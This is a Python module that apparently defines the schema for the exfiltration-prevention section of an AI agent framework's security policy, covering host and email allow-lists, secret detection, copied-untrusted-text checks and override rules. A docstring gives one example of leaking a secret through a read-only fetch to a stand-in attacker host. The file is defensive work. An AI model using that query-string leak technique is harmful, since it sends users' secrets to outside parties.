"""The ``exfiltration:`` section of a security policy (checked in ``_private/exfiltration.py``).

Kept out of ``policy_schema.py`` so the section grows without touching the policy's other parts.
Every glob is checked at load time: a host glob with a scheme or a path, an address glob with
two ``@`` or an unclosed ``[`` would match nothing and silently block (or let through) what
its author meant the other way.
"""

from __future__ import annotations

import re
from enum import StrEnum
from fnmatch import fnmatchcase
from typing import Annotated, Any

from pydantic import AfterValidator, BaseModel, BeforeValidator, ConfigDict, Field

from agentmesh._private import policy_io
from agentmesh._private.redact import CREDENTIALS

__all__ = [
    "ExfilAction",
    "ExfilChecks",
    "ExfilKind",
    "ExfilOverride",
    "ExfiltrationPolicy",
    "email_allowed",
    "host_allowed",
]


class ExfilKind(StrEnum):
    """What an outbound check looks for."""

    URL = "url"
    EMAIL = "email"
    SECRET = "secret"
    COPIED_UNTRUSTED = "copied_untrusted"


class ExfilAction(StrEnum):
    """What a finding does: refuse, ask a human (tool calls only), or let it through."""

    BLOCK = "block"
    APPROVE = "approve"
    ALLOW = "allow"


_HOST_CHARS = re.compile(r"[a-z0-9.*?\[\]!_:-]+")


def _closed(pattern: str) -> str:
    if pattern.count("[") != pattern.count("]"):
        raise ValueError(f"glob {pattern!r} has an unclosed '['")
    return pattern


def check_host_glob(pattern: str) -> str:
    """A host glob (``*.example.com``, ``10.0.0.?``, ``[::1]``): no scheme, path or user."""
    glob = policy_io.check_glob(pattern).lower().rstrip(".")
    if not _HOST_CHARS.fullmatch(glob) or "://" in glob:
        raise ValueError(
            f"host glob {pattern!r} must be a bare host name or address glob "
            "(e.g. '*.example.com'), with no scheme, path, port or user"
        )
    return _closed(glob)


def check_email_glob(pattern: str) -> str:
    """``alice@example.com``, ``*@example.com``, or a bare domain glob (``example.com``)."""
    glob = policy_io.check_glob(pattern).lower()
    local, at, domain = glob.rpartition("@")
    if glob.count("@") > 1 or (at and not local) or not re.fullmatch(r"[\w.%+*?!\[\]-]*", local):
        raise ValueError(
            f"address glob {pattern!r} must look like 'alice@example.com', '*@example.com' "
            "or a bare domain 'example.com'"
        )
    try:
        check_host_glob(domain)
    except ValueError:
        raise ValueError(f"address glob {pattern!r} has a malformed domain {domain!r}") from None
    return _closed(glob)


def _check_secret_kinds(kinds: list[str]) -> list[str]:
    unknown = sorted(set(kinds) - CREDENTIALS - {"iban", "card", "phone"})
    if unknown:
        raise ValueError(f"unknown secret kinds {unknown}; known: {sorted(CREDENTIALS)}")
    return kinds


def _check_copy_words(n: int) -> int:
    if 0 < n < 4:
        raise ValueError("copy_min_words is 0 (off) or at least 4: shorter runs are everywhere")
    return n


HostGlobs = Annotated[
    list[Annotated[str, AfterValidator(check_host_glob)]],
    BeforeValidator(policy_io.listify),
    policy_io.none_to(list),
]
EmailGlobs = Annotated[
    list[Annotated[str, AfterValidator(check_email_glob)]],
    BeforeValidator(policy_io.listify),
    policy_io.none_to(list),
]
Kinds = Annotated[list[ExfilKind], BeforeValidator(policy_io.listify), policy_io.none_to(list)]
_Globs = Annotated[
    list[Annotated[str, AfterValidator(policy_io.check_glob)]],
    BeforeValidator(policy_io.listify),
    Field(min_length=1),
]
_ALL = list(ExfilKind)


class _Strict(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)


class ExfilChecks(_Strict):
    """Which kinds are looked for on each outbound path."""

    tool_calls: Kinds = _ALL
    """Arguments of side-effecting tools (a tool with no ``tool_labels`` entry is one)."""
    read_only_tool_calls: Kinds = [ExfilKind.URL, ExfilKind.EMAIL, ExfilKind.SECRET]
    """Arguments of read-only tools: a fetch of ``attacker.example/?q=<secret>`` sends data."""
    remote_messages: Kinds = _ALL
    """Skill calls to remote A2A agents (``Mesh(remote_agents=...)``)."""
    gateway_replies: Kinds = [ExfilKind.SECRET]
    """Replies to callers of the A2A gateway (``user:<name>``)."""
    internal_messages: Kinds = [ExfilKind.SECRET]
    """Skill calls and replies between the mesh's own agents."""


class ExfilOverride(_Strict):
    """Settings for calls by ``agents`` to ``targets`` (tool names or ``agent.skill``): its
    hosts and addresses are added to the allowed ones; a verdict given replaces the base one."""

    agents: _Globs = ["*"]
    targets: _Globs = ["*"]
    allowed_hosts: HostGlobs = []
    allowed_emails: EmailGlobs = []
    on_url: ExfilAction | None = None
    on_email: ExfilAction | None = None
    on_secret: ExfilAction | None = None
    on_copied_untrusted: ExfilAction | None = None

    def matches(self, principal: str, target: str) -> bool:
        return any(fnmatchcase(principal, g) for g in self.agents) and any(
            fnmatchcase(target, g) for g in self.targets
        )


class ExfiltrationPolicy(_Strict):
    """Outbound checks: URLs to hosts not allowed, addresses not allowed, secrets, and runs of
    words copied from untrusted data, each with its verdict."""

    enabled: bool = True
    allowed_hosts: HostGlobs = []
    allowed_emails: EmailGlobs = []
    secret_kinds: Annotated[
        list[str], BeforeValidator(policy_io.listify), AfterValidator(_check_secret_kinds)
    ] = sorted(CREDENTIALS)
    copy_min_words: Annotated[int, Field(ge=0, le=1000), AfterValidator(_check_copy_words)] = 12
    untrusted_only: Kinds = [ExfilKind.URL, ExfilKind.EMAIL]
    """Kinds looked for only when the data is untrusted: a URL or address in a call made on
    trusted data alone (the user's own input) is the user's, not an attacker's."""
    on_url: ExfilAction = ExfilAction.BLOCK
    on_email: ExfilAction = ExfilAction.BLOCK
    on_secret: ExfilAction = ExfilAction.BLOCK
    on_copied_untrusted: ExfilAction = ExfilAction.APPROVE
    checks: Annotated[ExfilChecks, policy_io.none_to(ExfilChecks)] = ExfilChecks()
    overrides: Annotated[list[ExfilOverride], policy_io.none_to(list)] = []

    def effective(self, principal: str, target: str) -> ExfiltrationPolicy:
        """This section with every override matching ``principal`` -> ``target`` applied."""
        hits = [o for o in self.overrides if o.matches(principal, target)]
        if not hits:
            return self
        update: dict[str, Any] = {
            "allowed_hosts": self.allowed_hosts + [h for o in hits for h in o.allowed_hosts],
            "allowed_emails": self.allowed_emails + [e for o in hits for e in o.allowed_emails],
            "overrides": [],
        }
        for o in hits:  # later overrides win
            for kind in ExfilKind:
                action = getattr(o, f"on_{kind}")
                if action is not None:
                    update[f"on_{kind}"] = action
        return self.model_copy(update=update)

    def action(self, kind: ExfilKind) -> ExfilAction:
        result: ExfilAction = getattr(self, f"on_{kind}")
        return result


def host_allowed(host: str, globs: list[str]) -> bool:
    return any(fnmatchcase(host, g) for g in globs)


def email_allowed(address: str, globs: list[str]) -> bool:
    domain = address.rpartition("@")[2]
    return any(fnmatchcase(address if "@" in g else domain, g) for g in globs)
